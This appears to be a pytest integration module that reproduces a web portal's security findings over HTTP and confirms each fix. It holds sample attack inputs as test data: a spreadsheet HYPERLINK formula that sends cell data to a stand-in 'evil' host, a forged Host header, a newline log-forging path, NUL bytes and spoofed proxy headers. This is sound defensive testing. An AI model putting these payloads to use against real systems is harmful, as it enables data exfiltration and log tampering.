"""Issue 18's attack findings, reproduced against the portal as production runs it.

One gunicorn (config.wsgi, two sync workers, production settings: DEBUG off, hashed static
files, the cache in the database) on a new PostgreSQL database holding the demo data, behind
one trusted proxy (AXES_PROXY_COUNT=1, so X-Forwarded-For names the client). Each test sends
the finding's reproduction over HTTP and checks the answer the issue expects, as a visitor, a
team member or the admin would see it. Each fix also has a unit test with Django's test Client;
this module proves them in the stack that was attacked.

Backups' file modes and restore are not HTTP: tests/test_backup.py and
tests/activities/test_restore.py cover them.
"""

import base64
import csv
import http.client
import io
import re
import secrets
import urllib.parse

import lxml.etree
import pytest
from django_otp.oath import TOTP

from bench.run import Gunicorn
from demo import seed as demo
from tests.helpers import days
from tests.servers import (
    LOGIN,
    MY_WORK,
    Browser,
    demo_server_env,
    postgres,
    sign_in,
)

OFFICER = "officer-serbia"
SERBIA = demo.SERBIA_SLUG
KOSOVO = demo.KOSOVO_SLUG
ALREADY_SENT = "This form was already sent; nothing was saved twice."
DATE_BOUNDS = "Enter a date between 1900 and 2100."
ATOM = {"atom": "http://www.w3.org/2005/Atom"}


# The server ------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def portal_env():
    """Production settings on a new copy of the demo database, behind one trusted proxy."""
    with demo_server_env(
        "portal_findings",
        CACHE_KEY_PREFIX=f"findings-{secrets.token_hex(4)}",
        AXES_PROXY_COUNT="1",
        LOG_LEVEL="INFO",  # the request lines too: the forged-log reproduction reads them
    ) as env:
        yield env


@pytest.fixture(scope="module")
def server(portal_env, tmp_path_factory):
    """The base URL of the gunicorn server (two workers), and its log (gunicorn's and the
    portal's)."""
    log = tmp_path_factory.mktemp("gunicorn") / "gunicorn.log"
    with Gunicorn(portal_env, 2, log) as gunicorn:
        yield f"http://127.0.0.1:{gunicorn.port}", log


@pytest.fixture(scope="module")
def base(server):
    return server[0]


@pytest.fixture(scope="module")
def officer(base):
    """A browser signed in as the Serbian project's officer."""
    browser = Browser()
    landed = sign_in(browser, base, OFFICER)
    assert landed.path == MY_WORK, landed.text[:500]
    return browser


@pytest.fixture
def database(portal_env):
    """A cursor on the server's database, for what the admin would store."""
    with postgres(portal_env["DATABASE_URL"]) as cursor:
        yield cursor


# Helpers ---------------------------------------------------------------------------------------


def unique(text):
    return f"{text} {secrets.token_hex(3)}"


def activity_form(browser, base, project=SERBIA):
    page = browser.get(f"{base}/activities/new/?project={project}")
    assert page.status == 200, page.text[:500]
    return page.form(field="title")


def activity_fields(title, **changes):
    """An activity held a month ago; dates given whole (the date boxes read that too)."""
    return {
        "title": title,
        "kind": "training",
        "status": "held",
        "start_date": days(-30).isoformat(),
        "start_precision": "day",
        "end_date": days(-29).isoformat(),
        "end_precision": "day",
        "format": "in_person",
        "city": "Belgrade",
        "participants_qualifier": "exact",
        "participants_total": "25",
        "confirm_outside_period": "on",  # "Save anyway": only the rules under test refuse
        **changes,
    }


def save_activity(browser, base, title, **changes):
    saved = browser.submit(activity_form(browser, base), **activity_fields(title, **changes))
    assert re.fullmatch(r"/activities/\d+/", saved.path), saved.text[:2000]
    assert saved.heading == title
    return saved


def xml(page):
    assert page.status == 200, page.body[:1000]
    return lxml.etree.fromstring(page.body.encode())  # raises on what is not well-formed XML


def folded(text):
    return " ".join(text.split())


def raw_get(base, path, headers=None):
    """Status, headers and body of one GET sent as written (no redirects, no cookies)."""
    parts = urllib.parse.urlsplit(base)
    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=30)
    try:
        connection.request("GET", path, headers=headers or {})
        response = connection.getresponse()
        return response.status, response.headers, response.read().decode()
    finally:
        connection.close()


# The findings ----------------------------------------------------------------------------------


def test_a_story_pasted_from_word_keeps_the_public_feeds_valid(base, officer):
    title = unique("Pasted from Word\x0b title")
    form = officer.get(f"{base}/news/new/?project={SERBIA}").form(field="title")
    saved = officer.submit(
        form,
        title=title,
        dateline="Belgrade, Serbia",
        published_on=days(-1).isoformat(),
        lead="Twenty-five prison officers took part.",
        body="The training covered the CPT standards.",
        is_published="True",
    )
    assert re.fullmatch(r"/news/[\w-]+/", saved.path), saved.text[:2000]
    shown = folded(title.replace("\x0b", " "))
    assert folded(saved.heading) == shown

    for feed in ("/news/feed/", f"/projects/{SERBIA}/feed/"):
        entries = xml(Browser().get(f"{base}{feed}")).xpath(
            "//atom:entry/atom:title", namespaces=ATOM
        )
        titles = [entry.text for entry in entries]
        assert shown in [folded(title) for title in titles], (feed, titles)
        assert not [title for title in titles if "\x0b" in title]


def test_a_far_future_date_is_refused_and_the_calendars_stay_up(base, officer):
    title = unique("Planned for ever")
    refused = officer.submit(
        activity_form(officer, base),
        **activity_fields(
            title, status="planned", start_date=days(90).isoformat(), end_date="9999-12-31"
        ),
    )
    assert refused.status == 200
    assert refused.path == "/activities/new/"
    assert DATE_BOUNDS in refused.text

    # At the bound itself the calendars still write the day after the end (2101-01-01).
    at_bound = unique("Planned to the bound")
    save_activity(
        officer,
        base,
        at_bound,
        status="planned",
        start_date=days(90).isoformat(),
        end_date="2100-12-31",
    )
    for calendar in ("/activities/calendar.ics", f"/projects/{SERBIA}/calendar.ics"):
        page = Browser().get(f"{base}{calendar}")
        assert page.status == 200, page.body[:1000]
        assert page.body.startswith("BEGIN:VCALENDAR")
        unfolded = page.body.replace("\r\n ", "")
        assert f"SUMMARY:{at_bound}" in unfolded
        assert "DTEND;VALUE=DATE:21010101" in unfolded
        assert title not in unfolded


def test_a_control_character_stored_by_the_admin_keeps_the_iati_file_valid(base, database):
    database.execute(
        "UPDATE projects_project SET description = description || %(tail)s,"
        " description_en = description_en || %(tail)s WHERE slug = %(slug)s",
        {"tail": "\n\nStored from the admin:\x0bline two.", "slug": SERBIA},
    )
    assert database.rowcount == 1

    iati = xml(Browser().get(f"{base}/projects/{SERBIA}/iati.xml"))
    descriptions = "".join(iati.xpath("//iati-activity/description//narrative/text()"))
    assert "Stored from the admin:" in descriptions
    assert "line two." in descriptions
    assert "\x0b" not in descriptions


def test_a_formula_in_an_activity_title_goes_out_as_text_in_the_csv(base, officer):
    formula = '=HYPERLINK("http://evil/?x="&A1,"click")'
    save_activity(officer, base, formula)

    export = officer.get(f"{base}/activities/export.csv")
    assert export.status == 200
    assert export.headers["Content-Type"].startswith("text/csv")
    cells = [cell for row in csv.reader(io.StringIO(export.body)) for cell in row]
    assert "'" + formula in cells
    assert formula not in cells
    assert not [cell for cell in cells if cell.startswith("=")]


def test_behind_the_proxy_one_clients_failed_sign_ins_lock_only_that_client(base):
    account = "officer-kosovo"
    attacker = {"X-Forwarded-For": "203.0.113.5"}
    for _ in range(5):
        failed = sign_in(Browser(attacker), base, account, password="wrong-password")
        assert failed.path == LOGIN

    locked = sign_in(Browser(attacker), base, account)
    assert locked.status == 429
    assert locked.path == LOGIN
    colleague = sign_in(Browser({"X-Forwarded-For": "198.51.100.7"}), base, account)
    assert colleague.status == 200
    assert colleague.path == MY_WORK
    assert "Signed in as Kosta Officer" in colleague.text


@pytest.mark.parametrize("path", ["/activities/new/?project=%00", "/news/new/?project=a%00b"])
def test_a_nul_in_a_staff_forms_query_string_is_refused(base, officer, path):
    page = officer.get(f"{base}{path}")
    assert (page.status, page.heading) in {
        (400, "This request could not be understood"),
        (404, "Page not found"),
    }


def test_a_cached_page_asked_for_another_host_is_a_bad_request(base):
    good = {"Host": urllib.parse.urlsplit(base).netloc}
    raw_get(base, "/", good)
    status, headers, body = raw_get(base, "/", good)
    assert status == 200
    assert headers["X-Page-Cache"] == "hit"
    assert demo.PROJECT_TITLES[SERBIA] in body

    status, headers, body = raw_get(base, "/", {"Host": "evil.example"})
    assert status == 400
    assert headers["X-Page-Cache"] != "hit"
    assert demo.PROJECT_TITLES[SERBIA] not in body


def test_a_line_break_in_a_path_cannot_forge_a_log_line(server):
    base, log = server
    forged = "2026-12-01 10:00:00,000 INFO forged"
    path = "/nope%0a" + urllib.parse.quote(forged)
    assert raw_get(base, path)[0] == 404

    lines = log.read_text().splitlines()
    assert [line for line in lines if "GET /nope\\n" + forged in line]  # logged, escaped
    assert not [line for line in lines if line.startswith("2026-12-01 10:00:00")]


def test_a_draft_projects_institutions_are_not_named_to_visitors(base, database):
    database.execute(
        "UPDATE projects_project SET is_published = false WHERE slug = %s RETURNING id", [KOSOVO]
    )
    [(kosovo,)] = database.fetchall()
    database.execute(
        "SELECT DISTINCT i.name FROM stakeholders_institution i"
        " JOIN activities_activity_institutions ai ON ai.institution_id = i.id"
        " JOIN activities_activity a ON a.id = ai.activity_id"
        " WHERE a.project_id = %(kosovo)s AND i.id NOT IN ("
        "  SELECT ai.institution_id FROM activities_activity_institutions ai"
        "  JOIN activities_activity a ON a.id = ai.activity_id WHERE a.project_id <> %(kosovo)s)",
        {"kosovo": kosovo},
    )
    only_kosovo = [name for (name,) in database.fetchall()]
    assert only_kosovo  # the demo's Kosovo project works with institutions of its own
    filtered = f"{base}/activities/?project={KOSOVO}"

    team = Browser()
    assert sign_in(team, base, "officer-kosovo").path == MY_WORK
    for_the_team = team.get(filtered)
    assert for_the_team.status == 200
    assert not [name for name in only_kosovo if name not in for_the_team.text]

    visitor = Browser().get(filtered)
    assert visitor.status == 400
    assert not [name for name in only_kosovo if name in visitor.text]


def test_a_create_form_sent_three_times_makes_one_activity(base, officer, database):
    title = unique("Sent three times")
    form = activity_form(officer, base)
    fields = activity_fields(title)

    pages = [officer.submit(form, **fields) for _ in range(3)]

    database.execute("SELECT id FROM activities_activity WHERE title = %s", [title])
    [(activity,)] = database.fetchall()
    for page in pages:
        assert page.path == f"/activities/{activity}/"
        assert page.heading == title
    assert ALREADY_SENT not in pages[0].text
    assert ALREADY_SENT in pages[1].text
    assert ALREADY_SENT in pages[2].text


def test_values_the_admin_cannot_hold_are_bad_requests_not_server_errors(base):
    admin = Browser()
    setup = sign_in(admin, base, "admin")
    assert setup.path == "/accounts/two-factor/setup/", setup.text[:500]
    secret = setup.html.findtext(".//code[@id='totp-secret']")
    code = f"{TOTP(base64.b32decode(secret.strip())).token():06d}"
    codes = admin.submit(setup.form(field="code"), code=code)
    assert codes.status == 200
    assert "Two-factor sign-in is on." in codes.text
    assert admin.get(f"{base}/admin/").status == 200

    for path in (
        "/admin/activities/activity/?start_date__year=2147483648",
        "/admin/activities/activity/abc/history/",
    ):
        page = admin.get(f"{base}{path}")
        assert page.status == 400, (path, page.status)
        assert "This request could not be understood" in page.text
